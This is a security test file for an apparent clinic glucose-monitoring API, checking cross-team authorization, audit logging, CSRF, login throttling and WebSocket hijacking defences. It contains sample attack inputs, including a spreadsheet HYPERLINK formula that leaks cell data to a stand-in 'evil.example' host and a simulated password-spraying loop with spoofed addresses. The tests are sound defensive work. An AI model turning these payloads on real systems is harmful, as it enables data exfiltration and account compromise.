import { io, type ManagerOptions, type Socket, type SocketOptions } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiRoutes } from '../src/api/index.ts';
import type { ApiDependencies } from '../src/api/context.ts';
import { teamRoom, userRoom } from '../src/realtime/index.ts';
import { ADMIN, buildTeam, PASSWORD, startTestSystem, type TeamFixture } from './support/clinic.ts';
import type { Client } from './support/http.ts';

let env: Awaited<ReturnType<typeof startTestSystem>>;
let sys: Client;
let A: TeamFixture;
let B: TeamFixture;
let bAlertId: string;
let bSnoozeId: string;

beforeAll(async () => {
  env = await startTestSystem('postgres');
  sys = await env.client().login(ADMIN.email, ADMIN.password);
  A = await buildTeam(sys, env.system.url, 'Team A');
  B = await buildTeam(sys, env.system.url, 'Team B');
  // An alert and a snooze of team B's patient, as the workers and a B nurse would make them.
  const alert = await env.system.db.pool.query<{ id: string }>(
    `insert into alerts (patient_id, team_id, rule, severity, state) values ($1, $2, 'no_data', 'warning', 'open') returning id`,
    [B.patientId, B.teamId],
  );
  bAlertId = alert.rows[0]!.id;
  const snooze = await B.nurse.post(`/api/patients/${B.patientId}/snoozes`, { rule: 'high', minutes: 60 });
  bSnoozeId = snooze.body.snooze.id;
});
afterAll(() => env?.stop());

type Request = { path: string; body?: unknown };
/** For every route that names an object, a request aimed at team B's objects. */
const towardsTeamB: Record<string, (b: TeamFixture, a: TeamFixture) => Request> = {
  'GET /api/patients': (b) => ({ path: `/api/patients?teamId=${b.teamId}` }),
  'POST /api/patients': (b) => ({ path: '/api/patients', body: { name: 'Intruder', teamId: b.teamId } }),
  'GET /api/patients/:id': (b) => ({ path: `/api/patients/${b.patientId}` }),
  'PATCH /api/patients/:id': (b) => ({ path: `/api/patients/${b.patientId}`, body: { name: 'Renamed' } }),
  'GET /api/patients/:id/thresholds': (b) => ({ path: `/api/patients/${b.patientId}/thresholds` }),
  'PUT /api/patients/:id/thresholds': (b) => ({ path: `/api/patients/${b.patientId}/thresholds`, body: { low: 4.5 } }),
  'POST /api/patients/:id/review': (b) => ({ path: `/api/patients/${b.patientId}/review`, body: {} }),
  'POST /api/patients/:id/access': (b, a) => ({
    path: `/api/patients/${b.patientId}/access`,
    body: { teamId: a.teamId },
  }),
  'DELETE /api/patients/:id/access/:teamId': (b, a) => ({ path: `/api/patients/${b.patientId}/access/${a.teamId}` }),
  'GET /api/patients/:id/readings': (b) => ({ path: `/api/patients/${b.patientId}/readings` }),
  'GET /api/patients/:id/summary': (b) => ({ path: `/api/patients/${b.patientId}/summary?days=14` }),
  'GET /api/patients/:id/agp': (b) => ({ path: `/api/patients/${b.patientId}/agp?days=14` }),
  'POST /api/patients/:id/readings': (b) => ({
    path: `/api/patients/${b.patientId}/readings`,
    body: { measuredAt: new Date().toISOString(), mmol: 5.5 },
  }),
  'GET /api/patients/:id/devices': (b) => ({ path: `/api/patients/${b.patientId}/devices` }),
  'GET /api/patients/:id/access-log': (b) => ({ path: `/api/patients/${b.patientId}/access-log` }),
  'POST /api/devices': (b) => ({
    path: '/api/devices',
    body: { serial: 'intruder-meter', kind: 'bgm', patientId: b.patientId },
  }),
  'POST /api/devices/:deviceId/rotate': (b) => ({ path: `/api/devices/${b.deviceId}/rotate`, body: {} }),
  'POST /api/devices/:deviceId/revoke': (b) => ({ path: `/api/devices/${b.deviceId}/revoke`, body: {} }),
  'PATCH /api/teams/:teamId': (b) => ({ path: `/api/teams/${b.teamId}`, body: { escalateAfterMinutes: 5 } }),
  'GET /api/teams/:teamId/members': (b) => ({ path: `/api/teams/${b.teamId}/members` }),
  'POST /api/teams/:teamId/members': (b, a) => ({
    path: `/api/teams/${b.teamId}/members`,
    body: { userId: a.nurseId, role: 'nurse' },
  }),
  'DELETE /api/teams/:teamId/members/:userId': (b) => ({ path: `/api/teams/${b.teamId}/members/${b.nurseId}` }),
  'GET /api/teams/:teamId/thresholds': (b) => ({ path: `/api/teams/${b.teamId}/thresholds` }),
  'PUT /api/teams/:teamId/thresholds': (b) => ({ path: `/api/teams/${b.teamId}/thresholds`, body: { low: 4.2 } }),
  'GET /api/audit': (b) => ({ path: `/api/audit?patientId=${b.patientId}` }),
  'GET /api/alerts': (b) => ({ path: `/api/alerts?teamId=${b.teamId}` }),
  'GET /api/board': (b) => ({ path: `/api/board?teamId=${b.teamId}` }),
  'GET /api/alerts/:id': () => ({ path: `/api/alerts/${bAlertId}` }),
  'POST /api/alerts/:id/ack': () => ({ path: `/api/alerts/${bAlertId}/ack`, body: { action: 'phone' } }),
  'POST /api/alerts/:id/resolve': () => ({ path: `/api/alerts/${bAlertId}/resolve`, body: {} }),
  'GET /api/patients/:id/snoozes': (b) => ({ path: `/api/patients/${b.patientId}/snoozes` }),
  'POST /api/patients/:id/snoozes': (b) => ({
    path: `/api/patients/${b.patientId}/snoozes`,
    body: { rule: 'low', minutes: 30 },
  }),
  'DELETE /api/patients/:id/snoozes/:snoozeId': (b) => ({ path: `/api/patients/${b.patientId}/snoozes/${bSnoozeId}` }),
};
/** Routes that name no team's object: what they show or do is scoped by the caller alone (for the
 * gateway, the device: its readings go to its own patient). */
const callerScoped = [
  'POST /api/devices/readings',
  'POST /api/auth/login',
  'POST /api/auth/logout',
  'GET /api/me',
  'GET /api/teams',
  'POST /api/teams',
  'POST /api/users',
  'GET /api/users',
];

describe('team-scoped authorization', () => {
  it('has a cross-team case for every API route (a new route must join the matrix)', () => {
    const routes = apiRoutes({ db: { pool: {} }, live: {}, gateway: {} } as unknown as ApiDependencies).map(
      (r) => `${r.method.toUpperCase()} ${r.path}`,
    );
    expect([...Object.keys(towardsTeamB), ...callerScoped].sort()).toEqual([...routes].sort());
  });

  it.each(Object.keys(towardsTeamB))(
    "answers 404 to team A's admin and nurse for team B's objects: %s",
    async (key) => {
      const method = key.split(' ')[0]!;
      const request = towardsTeamB[key]!(B, A);
      for (const caller of [A.admin, A.nurse]) {
        const answer = await caller.request(method, request.path, request.body);
        expect(answer.status, `${key} as ${caller === A.admin ? 'admin' : 'nurse'}`).toBe(404);
        expect(answer.body.error.code).toBe('NOT_FOUND');
      }
    },
  );

  it("leaves team B's objects as they were after all those attempts", async () => {
    const patient = await B.admin.get(`/api/patients/${B.patientId}`);
    expect(patient.body.name).toBe('Patient of Team B');
    const members = await B.admin.get(`/api/teams/${B.teamId}/members`);
    expect(members.body.members.map((m: { userId: string }) => m.userId).sort()).toEqual([B.adminId, B.nurseId].sort());
    const devices = await B.admin.get(`/api/patients/${B.patientId}/devices`);
    expect(devices.body.devices).toEqual([expect.objectContaining({ deviceId: B.deviceId, revokedAt: null })]);
    const thresholds = await B.admin.get(`/api/teams/${B.teamId}/thresholds`);
    expect(thresholds.body.low).toBe(4.0);
    const alert = await B.nurse.get(`/api/alerts/${bAlertId}`);
    expect(alert.body.alert).toMatchObject({ state: 'open', acknowledgedBy: null });
    const snoozes = await B.nurse.get(`/api/patients/${B.patientId}/snoozes`);
    expect(snoozes.body.snoozes.map((s: { id: string }) => s.id)).toEqual([bSnoozeId]);
  });

  it("lists only the caller's own teams and patients", async () => {
    const teams = await A.nurse.get('/api/teams');
    expect(teams.body.teams.map((t: { id: string }) => t.id)).toEqual([A.teamId]);
    const patients = await A.nurse.get('/api/patients');
    expect(patients.body.patients.map((p: { id: string }) => p.id)).toEqual([A.patientId]);
    const all = await sys.get('/api/teams');
    expect(all.body.teams.map((t: { id: string }) => t.id).sort()).toEqual([A.teamId, B.teamId].sort());
  });

  it('lets a granted team read a patient (identity number masked) but not change it', async () => {
    expect((await B.admin.post(`/api/patients/${B.patientId}/access`, { teamId: A.teamId })).status).toBe(201);
    try {
      const seen = await A.nurse.get(`/api/patients/${B.patientId}`);
      expect(seen.status).toBe(200);
      expect(seen.body).toMatchObject({ id: B.patientId, access: 'granted', identityNumber: '19121212-****' });
      expect((await A.nurse.get(`/api/patients/${B.patientId}/readings`)).status).toBe(200);
      expect((await A.nurse.get('/api/patients')).body.patients.map((p: { id: string }) => p.id).sort()).toEqual(
        [A.patientId, B.patientId].sort(),
      );
      const change = await A.nurse.request('PUT', `/api/patients/${B.patientId}/thresholds`, { low: 4.5 });
      expect(change.status).toBe(403);
      expect(change.body.error.code).toBe('FORBIDDEN');
      const own = await B.nurse.get(`/api/patients/${B.patientId}`);
      expect(own.body.identityNumber).toBe('191212121212');
    } finally {
      expect((await B.admin.request('DELETE', `/api/patients/${B.patientId}/access/${A.teamId}`)).status).toBe(204);
    }
    expect((await A.nurse.get(`/api/patients/${B.patientId}`)).status).toBe(404);
  });

  it('keeps administration to administrators of the team', async () => {
    const asNurse = await A.nurse.post('/api/patients', { name: 'New', teamId: A.teamId });
    expect(asNurse.status).toBe(403);
    expect((await A.nurse.post('/api/users', { email: 'x@example.se', name: 'X', password: PASSWORD })).status).toBe(
      403,
    );
    expect(
      (await A.admin.post('/api/users', { email: 'root@example.se', name: 'X', password: PASSWORD, sysadmin: true }))
        .status,
    ).toBe(403);
    expect((await A.admin.post('/api/teams', { name: 'Team C' })).status).toBe(403);
  });

  it("names another team as escalation target only with that team's consent, and tells no team id exists", async () => {
    const toB = await A.admin.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: B.teamId });
    const toNowhere = await A.admin.request('PATCH', `/api/teams/${A.teamId}`, {
      escalationTeamId: '00000000-0000-4000-8000-000000000000',
    });
    for (const answer of [toB, toNowhere]) {
      expect(answer.status).toBe(400);
      expect(answer.body.error.field).toBe('escalationTeamId');
    }
    expect(toB.body).toEqual(toNowhere.body);
    expect(
      (await sys.get('/api/teams')).body.teams.find((t: { id: string }) => t.id === A.teamId).escalationTeamId,
    ).toBe(null);
    // An admin of both teams consents for both; a sysadmin may set any.
    const both = await buildTeam(sys, env.system.url, 'Team A on call');
    await sys.post(`/api/teams/${both.teamId}/members`, { userId: A.adminId, role: 'admin' });
    expect((await A.admin.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: both.teamId })).status).toBe(
      200,
    );
    expect((await sys.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: B.teamId })).status).toBe(200);
    expect((await sys.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: null })).status).toBe(200);
  });

  it('refuses everything but sign-in without a session', async () => {
    const anonymous = env.client();
    for (const path of ['/api/me', '/api/teams', '/api/patients', `/api/patients/${A.patientId}`]) {
      const answer = await anonymous.get(path);
      expect(answer.status, path).toBe(401);
      expect(answer.body.error.code).toBe('UNAUTHENTICATED');
    }
  });
});

describe('the audit trail', () => {
  it('records each read of patient data with user, patient, care unit, action, time and origin', async () => {
    const mark = await env.system.db.pool.query<{ id: number }>(
      'select coalesce(max(id), 0)::int as id from audit_events',
    );
    await A.nurse.get(`/api/patients/${A.patientId}`);
    await A.nurse.get(`/api/patients/${A.patientId}/readings`);
    await A.nurse.get('/api/patients');
    const rows = await env.system.db.pool.query(
      `select action, actor_user_id, patient_id, team_id, origin, at from audit_events
       where actor_user_id = $1 and id > $2 and action in ('patient.read', 'readings.read', 'patient.list') order by id`,
      [A.nurseId, mark.rows[0]!.id],
    );
    expect(rows.rows.map((r) => r.action)).toEqual(['patient.read', 'readings.read', 'patient.list']);
    for (const row of rows.rows) {
      expect(row).toMatchObject({ actor_user_id: A.nurseId, patient_id: A.patientId, team_id: A.teamId });
      expect(row.origin).toMatch(/127\.0\.0\.1/);
    }
  });

  it('answers "who looked at patient X" in a period, as JSON and as a CSV extract, to the team admin only', async () => {
    await A.nurse.get(`/api/patients/${A.patientId}`);
    const from = new Date(Date.now() - 3_600_000).toISOString();
    const to = new Date(Date.now() + 60_000).toISOString();
    const events = await A.admin.get(`/api/audit?patientId=${A.patientId}&from=${from}&to=${to}`);
    expect(events.status).toBe(200);
    expect(events.body.events).toContainEqual(
      expect.objectContaining({ action: 'patient.read', userId: A.nurseId, teamId: A.teamId }),
    );
    const byUser = await A.admin.get(`/api/audit?userId=${A.nurseId}&from=${from}&to=${to}`);
    expect(byUser.body.events.every((e: { userId: string }) => e.userId === A.nurseId)).toBe(true);
    expect(byUser.body.events.length).toBeGreaterThan(0);
    const csv = await A.admin.get(`/api/patients/${A.patientId}/access-log?format=csv&from=${from}&to=${to}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.text.split('\n')[0]).toBe('time,action,outcome,user,email,care unit,origin');
    expect(csv.text).toContain('nurse@team-a.example.se');
    expect((await A.nurse.get(`/api/audit?patientId=${A.patientId}`)).status).toBe(403);
    // Reading the trail is itself in the trail.
    const reads = await env.system.db.pool.query(
      `select 1 from audit_events where action in ('audit.read', 'audit.extract') and actor_user_id = $1`,
      [A.adminId],
    );
    expect(reads.rowCount).toBeGreaterThanOrEqual(3);
  });

  it('neutralises spreadsheet formulas in the CSV extract (a name such as =HYPERLINK(...))', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Öppna")';
    const user = await sys.post('/api/users', { email: 'formula@example.se', name: evil, password: PASSWORD });
    await sys.post(`/api/teams/${A.teamId}/members`, { userId: user.body.id, role: 'nurse' });
    const reader = await env.client().login('formula@example.se', PASSWORD);
    await reader.get(`/api/patients/${A.patientId}`);
    const csv = await A.admin.get(`/api/patients/${A.patientId}/access-log?format=csv`);
    const line = csv.text.split('\n').find((l) => l.includes('formula@example.se'))!;
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Öppna"")"`);
    expect(line.split(',').some((cell) => cell.startsWith('='))).toBe(false);
  });

  it('records logins, failed logins and device pairing', async () => {
    const actions = await env.system.db.pool.query(
      `select action, outcome, count(*)::int as n from audit_events group by 1, 2`,
    );
    const seen = actions.rows.map((r) => `${r.action}:${r.outcome}`);
    expect(seen).toEqual(
      expect.arrayContaining([
        'auth.login:success',
        'device.pair:success',
        'membership.add:success',
        'patient.create:success',
      ]),
    );
    await env.client().post('/api/auth/login', { email: 'nurse@team-a.example.se', password: 'wrong password!!' });
    const failed = await env.system.db.pool.query(
      `select actor_user_id, detail from audit_events where action = 'auth.login' and outcome = 'failure' order by id desc limit 1`,
    );
    expect(failed.rows[0]).toMatchObject({ actor_user_id: A.nurseId, detail: { reason: 'wrong_password' } });
  });
});

describe('sign-in', () => {
  it('sets an httpOnly, SameSite=Lax session cookie, and logout ends the session', async () => {
    const tab = env.client();
    const answer = await tab.post('/api/auth/login', { email: ADMIN.email, password: ADMIN.password });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ email: ADMIN.email, sysadmin: true, teams: [] });
    const cookie = answer.headers.get('set-cookie')!;
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Lax/i);
    expect(cookie).not.toMatch(/Secure/i); // plain HTTP here; behind TLS see the next test
    expect((await tab.get('/api/me')).status).toBe(200);
    const stale = tab.cookie;
    expect((await tab.post('/api/auth/logout')).status).toBe(204);
    tab.cookie = stale;
    expect((await tab.get('/api/me')).status).toBe(401);
  });

  it('answers 401 with a code for a wrong password or an unknown account, alike', async () => {
    const wrong = await env.client().post('/api/auth/login', { email: ADMIN.email, password: 'not the password' });
    const unknown = await env
      .client()
      .post('/api/auth/login', { email: 'nobody@example.se', password: 'not the password' });
    for (const answer of [wrong, unknown]) {
      expect(answer.status).toBe(401);
      expect(answer.body).toEqual({ error: { code: 'INVALID_CREDENTIALS', message: 'wrong e-mail or password' } });
    }
  });

  it('signs out an idle session and an expired one', async () => {
    const tab = await env.client().login('nurse@team-a.example.se', PASSWORD);
    expect((await tab.get('/api/me')).status).toBe(200);
    await env.system.db.pool.query(
      `update sessions set last_seen_at = now() - interval '31 minutes' where user_id = $1`,
      [A.nurseId],
    );
    expect((await tab.get('/api/me')).status).toBe(401);
    const again = await env.client().login('nurse@team-a.example.se', PASSWORD);
    await env.system.db.pool.query(`update sessions set expires_at = now() - interval '1 second' where user_id = $1`, [
      A.nurseId,
    ]);
    expect((await again.get('/api/me')).status).toBe(401);
    A.nurse = await env.client().login('nurse@team-a.example.se', PASSWORD);
  });

  it('refuses cross-site writes and non-JSON writes (CSRF)', async () => {
    const path = `/api/patients/${A.patientId}/review`;
    const evil = await A.nurse.request('POST', path, {}, { origin: 'https://evil.example' });
    expect(evil.status).toBe(403);
    expect(evil.body.error.code).toBe('CSRF');
    expect((await A.nurse.request('POST', path, {}, { 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    const form = await fetch(`${env.system.url}${path}`, {
      method: 'POST',
      headers: { cookie: A.nurse.cookie!, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'a=1',
    });
    expect(form.status).toBe(415);
    const sameSite = await A.nurse.request(
      'POST',
      path,
      {},
      { origin: env.system.url, 'sec-fetch-site': 'same-origin' },
    );
    expect(sameSite.status).toBe(200);
  });
});

// Issue 18 item 6 and issue 11 item 4: failed sign-ins slow down per account and per source;
// nothing is locked, unknown and real accounts answer alike, successes never count.
describe('sign-in throttle', () => {
  let quiet: Awaited<ReturnType<typeof startTestSystem>>;
  let root: Client;
  beforeAll(async () => {
    // Behind a trusted proxy on loopback, so a test can speak from another address.
    quiet = await startTestSystem('postgres', { TRUST_PROXY: 'loopback' });
    root = await quiet.client().login(ADMIN.email, ADMIN.password);
  });
  afterAll(() => quiet?.stop());

  const attempt = (email: string, password: string) => quiet.client().post('/api/auth/login', { email, password });
  const codeOf = (answer: { status: number; body: { error?: { code: string } } }) =>
    answer.status === 200 ? 'OK' : answer.body.error!.code;

  it('slows an account after five failures, an unknown address exactly alike, and lets the owner in after the wait', async () => {
    await root.post('/api/users', { email: 'guessed@example.se', name: 'Guessed', password: PASSWORD });
    const sequence = async (email: string) => {
      const codes: string[] = [];
      for (let i = 0; i < 6; i++) codes.push(codeOf(await attempt(email, `guess number ${i}`)));
      return codes;
    };
    const real = await sequence('guessed@example.se');
    const unknown = await sequence('nobody-here@example.se');
    const expected = [...Array(5).fill('INVALID_CREDENTIALS'), 'RATE_LIMITED'];
    expect(real).toEqual(expected);
    expect(unknown).toEqual(expected);
    // While the wait runs even the right password waits (nothing is verified), with the same answer.
    const early = await attempt('guessed@example.se', PASSWORD);
    expect(early.status).toBe(429);
    const wait = Number(early.headers.get('retry-after'));
    expect(wait).toBeGreaterThanOrEqual(1);
    expect(wait).toBeLessThanOrEqual(2);
    await new Promise((r) => setTimeout(r, wait * 1000 + 100));
    expect((await attempt('guessed@example.se', PASSWORD)).status).toBe(200);
    // A success starts the account afresh.
    expect(codeOf(await attempt('guessed@example.se', 'wrong again'))).toBe('INVALID_CREDENTIALS');
  });

  it('counts concurrent guesses atomically: twelve at once, five checked', async () => {
    await root.post('/api/users', { email: 'burst@example.se', name: 'Burst', password: PASSWORD });
    const answers = await Promise.all(
      Array.from({ length: 12 }, (_, i) => attempt('burst@example.se', `parallel guess ${i}`)),
    );
    const codes = answers.map(codeOf);
    expect(codes.filter((c) => c === 'INVALID_CREDENTIALS')).toHaveLength(5);
    expect(codes.filter((c) => c === 'RATE_LIMITED')).toHaveLength(7);
    const checked = await quiet.system.db.pool.query(
      `select count(*)::int as n from audit_events e join users u on u.id = e.actor_user_id
       where e.action = 'auth.login' and e.detail->>'reason' = 'wrong_password' and u.email = 'burst@example.se'`,
    );
    expect(checked.rows[0].n).toBe(5);
  });

  it('never counts successes: a ward behind one address signs in sixty times at shift change', async () => {
    await root.post('/api/users', { email: 'ward@example.se', name: 'Ward Nurse', password: PASSWORD });
    const statuses: number[] = [];
    for (let i = 0; i < 60; i++) statuses.push((await attempt('ward@example.se', PASSWORD)).status);
    expect(statuses.every((s) => s === 200)).toBe(true);
  });

  it('slows one address that guesses many accounts after fifty failures, without touching other addresses', async () => {
    // Addresses of their own (behind the trusted proxy): the tests above failed from loopback.
    const from = (address: string, email: string) =>
      quiet
        .client()
        .request('POST', '/api/auth/login', { email, password: 'spring2026!' }, { 'x-forwarded-for': address });
    const codes: string[] = [];
    for (let i = 0; i < 50; i++) codes.push(codeOf(await from('203.0.113.9', `spray-${i}@example.se`)));
    expect(codes).toEqual(Array(50).fill('INVALID_CREDENTIALS'));
    const next = await from('203.0.113.9', 'spray-new@example.se');
    expect(codeOf(next)).toBe('RATE_LIMITED');
    expect(Number(next.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(codeOf(await from('198.51.100.7', 'spray-new@example.se'))).toBe('INVALID_CREDENTIALS');
  });
});

describe('behind a TLS-terminating proxy', () => {
  it('marks the session cookie Secure when the trusted proxy says the request came over https', async () => {
    const proxied = await startTestSystem('postgres', { TRUST_PROXY: 'loopback' });
    try {
      const answer = await proxied
        .client()
        .request(
          'POST',
          '/api/auth/login',
          { email: ADMIN.email, password: ADMIN.password },
          { 'x-forwarded-proto': 'https' },
        );
      expect(answer.headers.get('set-cookie')).toMatch(/; Secure/i);
    } finally {
      await proxied.stop();
    }
  });
});

describe('access changes on live connections', () => {
  const sockets: Socket[] = [];
  afterAll(() => sockets.forEach((s) => s.disconnect()));
  const connect = (namespace: string, options: Partial<ManagerOptions & SocketOptions>) => {
    const socket = io(`${env.system.url}${namespace}`, {
      transports: ['websocket'],
      forceNew: true,
      reconnection: false,
      ...options,
    });
    sockets.push(socket);
    return socket;
  };
  const connected = (socket: Socket) =>
    new Promise<void>((resolve, reject) => {
      socket.once('connect', () => resolve());
      socket.once('connect_error', reject);
    });

  it("refuses a board opened from another site with the nurse's cookie (cross-site WebSocket hijacking)", async () => {
    const evil = connect('/board', { extraHeaders: { cookie: A.nurse.cookie!, origin: 'https://evil.example' } });
    const refused = await new Promise<Error & { data?: { code: string } }>((resolve) =>
      evil.once('connect_error', resolve),
    );
    expect(refused.data?.code).toBe('UNAUTHORIZED');
    const own = connect('/board', { extraHeaders: { cookie: A.nurse.cookie!, origin: env.system.url } });
    await connected(own);
  });

  it("removing a nurse from the team (HTTP API) takes her open board out of the team's room at once", async () => {
    const nurse = await env.client().login('nurse@team-a.example.se', PASSWORD);
    const board = connect('/board', { extraHeaders: { cookie: nurse.cookie! } });
    await connected(board);
    const received: string[] = [];
    board.on('reading', (r: { marker: string }) => received.push(r.marker));
    const boardNs = env.system.realtime.io.of('/board');
    boardNs.to(teamRoom(A.teamId)).emit('reading', { marker: 'while member' });
    await expect.poll(() => received).toEqual(['while member']);

    expect((await A.admin.request('DELETE', `/api/teams/${A.teamId}/members/${A.nurseId}`)).status).toBe(204);
    try {
      await expect.poll(async () => (await boardNs.in(teamRoom(A.teamId)).fetchSockets()).length).toBe(0);
      boardNs.to(teamRoom(A.teamId)).emit('reading', { marker: 'after removal' });
      boardNs.to(userRoom(A.nurseId)).emit('reading', { marker: 'to her alone' });
      await expect.poll(() => received).toEqual(['while member', 'to her alone']);
    } finally {
      await A.admin.post(`/api/teams/${A.teamId}/members`, { userId: A.nurseId, role: 'nurse' });
    }
  });

  it('signing out closes the boards opened with that session, and only those', async () => {
    const first = await env.client().login('nurse@team-a.example.se', PASSWORD);
    const second = await env.client().login('nurse@team-a.example.se', PASSWORD);
    const closing = connect('/board', { extraHeaders: { cookie: first.cookie! } });
    const staying = connect('/board', { extraHeaders: { cookie: second.cookie! } });
    await Promise.all([connected(closing), connected(staying)]);
    const disconnected = new Promise<string>((resolve) => closing.once('disconnect', resolve));
    expect((await first.post('/api/auth/logout')).status).toBe(204);
    expect(await disconnected).toBe('io server disconnect');
    expect(staying.connected).toBe(true);
  });

  it('revoking a device (HTTP API) disconnects its live connection, and its token is refused after', async () => {
    const meter = connect('/devices', { auth: { deviceId: A.deviceId, token: A.deviceToken } });
    await connected(meter);
    const disconnected = new Promise<string>((resolve) => meter.once('disconnect', resolve));
    expect((await A.admin.post(`/api/devices/${A.deviceId}/revoke`)).status).toBe(200);
    expect(await disconnected).toBe('io server disconnect');
    const again = connect('/devices', { auth: { deviceId: A.deviceId, token: A.deviceToken } });
    const refused = await new Promise<Error & { data?: { code: string } }>((resolve) =>
      again.once('connect_error', resolve),
    );
    expect(refused.data?.code).toBe('DEVICE_AUTH');

    const rotated = await A.admin.post(`/api/devices/${A.deviceId}/rotate`);
    expect(rotated.status).toBe(200);
    await connected(connect('/devices', { auth: { deviceId: A.deviceId, token: rotated.body.token } }));
  });
});
